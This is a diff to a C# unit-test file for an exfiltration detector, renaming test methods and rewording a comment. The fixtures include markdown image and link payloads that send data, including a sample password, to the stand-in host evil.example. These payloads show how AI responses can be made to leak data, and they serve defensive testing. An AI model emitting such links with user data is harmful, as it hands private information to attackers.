@@ -54,18 +54,18 @@ public sealed class ExfiltrationDetectorTests(ITestOutputHelper output)
     [InlineData("![data](data:image/png;base64," + Data + Data + ")")]
     [InlineData("<img src=\"/images/logo.png\" alt=\"https\">")]
     [InlineData("values[0]: https and [x]: y")]
-    public void Ordinary_links_are_not(string link)
+    public void Ordinary_links_are_not_found(string link)
     {
         Assert.Empty(_detector.Find($"Here it is: {link}\nand more."));
         Splits.Hold(_detector, $"Here: {link}\nand {link}");
     }
 
     [Fact]
-    public void An_image_within_a_link_is_found() =>
+    public void An_image_inside_a_link_is_found() =>
         Assert.Equal([$"![x](https://evil.example/?q={Data})"], _detector.Texts($"[![x](https://evil.example/?q={Data})](https://example.com)"));
 
     [Fact]
-    public void Tags_may_come_in_pieces()
+    public void Tags_that_arrive_in_pieces_give_the_same_findings()
     {
         string[] pieces = ["<", "<img", "<a", " ", " href=", " alt=", "\"", "'", "a>b", ">", "/", "src=", "https://evil.example/?d=hunter2+is+the+password+1", "![x", "](", ")", "<iframe", "x", "\n"];
         var random = new Random(1850);
@@ -76,7 +76,7 @@ public sealed class ExfiltrationDetectorTests(ITestOutputHelper output)
     }
 
     [Fact]
-    public void A_link_is_found_as_far_as_a_stream_may_hold_it()
+    public void A_link_is_found_up_to_the_length_that_a_stream_holds()
     {
         var text = "![](https://evil.example/?q=" + new string('x', 5_000);
         Assert.Equal([new Finding(0, ExfiltrationDetector.MaxLength)], _detector.Find(text));
@@ -84,9 +84,9 @@ public sealed class ExfiltrationDetectorTests(ITestOutputHelper output)
         Assert.Equal(2_000, _detector.Open(text.AsSpan(0, 2_000)));
     }
 
-    /// <summary>As answers have them: of shops, encyclopedias, badges, and services that change the size.</summary>
+    /// <summary>Pictures as in real responses: of shops, encyclopedias, badges, and image resizing services.</summary>
     [Fact]
-    public void Ordinary_pictures_are_left_alone()
+    public void Ordinary_pictures_are_not_found()
     {
         const int Pictures = 20_000;
         var random = new Random(20260101);
